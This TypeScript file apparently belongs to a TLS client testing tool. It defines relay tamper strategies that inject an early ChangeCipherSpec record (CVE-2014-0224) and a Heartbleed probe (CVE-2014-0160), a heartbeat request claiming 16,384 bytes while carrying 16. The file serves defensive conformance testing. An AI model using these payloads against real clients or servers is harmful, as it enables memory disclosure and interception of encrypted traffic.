import { encodeRecord } from '../records/record-splitter.js'
import { ContentType } from '../records/record-types.js'
import { pass } from './tamper-strategy.js'
import type { TamperStrategy } from './tamper-strategy.js'

/**
 * Records a relay slips in right after the server's first record (its
 * ServerHello), where a strict handshake state machine must refuse them
 * (scenario row 42, after nogotofail's earlyccs and clientheartbleed).
 */
function injectAfterServerHello(record: Buffer, note: string): TamperStrategy {
  let injected = false
  return {
    onRecord(received, context) {
      if (injected || context.direction !== 'serverToClient' || received.type !== ContentType.handshake) return pass(received)
      injected = true
      return { forward: [received.raw, record], note }
    },
    flush: () => [],
  }
}

/**
 * ChangeCipherSpec before any key exchange (CVE-2014-0224): a TLS 1.2 client
 * must answer unexpected_message. TLS 1.3 clients ignore a CCS of value 1
 * during the handshake (RFC 8446 §5), so there it is harmless.
 */
export function earlyCcsStrategy(): TamperStrategy {
  return injectAfterServerHello(encodeRecord(ContentType.changeCipherSpec, 0x0303, Buffer.from([1])), 'injected a ChangeCipherSpec right after ServerHello')
}

/**
 * A Heartbleed probe (CVE-2014-0160): a HeartbeatRequest (RFC 6520 §4)
 * claiming 16,384 bytes of payload while carrying 16. A client that answers
 * leaks memory; one without heartbeat support must reject the record type.
 */
export function heartbeatRequestStrategy(): TamperStrategy {
  const request = Buffer.concat([Buffer.from([1, 0x40, 0x00]), Buffer.alloc(16, 0x41)])
  return injectAfterServerHello(encodeRecord(ContentType.heartbeat, 0x0303, request), 'injected a HeartbeatRequest claiming 16384 bytes after ServerHello')
}
